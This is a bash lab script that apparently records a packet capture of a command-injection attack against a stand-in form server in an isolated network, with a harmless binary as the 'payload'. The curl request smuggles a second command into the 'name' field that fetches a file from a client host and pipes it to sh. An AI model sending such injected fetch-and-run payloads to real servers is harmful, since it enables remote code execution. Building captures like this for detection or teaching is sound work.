#!/bin/bash
# A stand-in for a server that runs what it is sent: its form takes a command, and for "wget" it fetches from the address
# there and connects to the visitor again. What it fetches is a harmless program of Debian's, which nobody starts.
. "$(dirname "$0")/../lab.sh"
need curl python3 netcat-openbsd
lab_start
mkdir "$LAB/www" && cp /bin/true "$LAB/www/update"
server_job python3 "$HERE/form.py" "${CALLS:-1}"
on_client python3 -m http.server -d "$LAB/www" 8000 >/dev/null 2>&1 & JOBS+=($!)
on_client nc -lk 4444 >/dev/null & JOBS+=($!)
wait_port 80
sleep 1
on_client curl -sS -o /dev/null --noproxy '*' -d 'name=a;wget http://10.9.0.2:8000/update -O- | sh' "http://$SERVER/form"
sleep $((4 + 5 * (${CALLS:-1} - 1)))
lab_save "$HERE/${CAPTURE:-callback}.pcap"
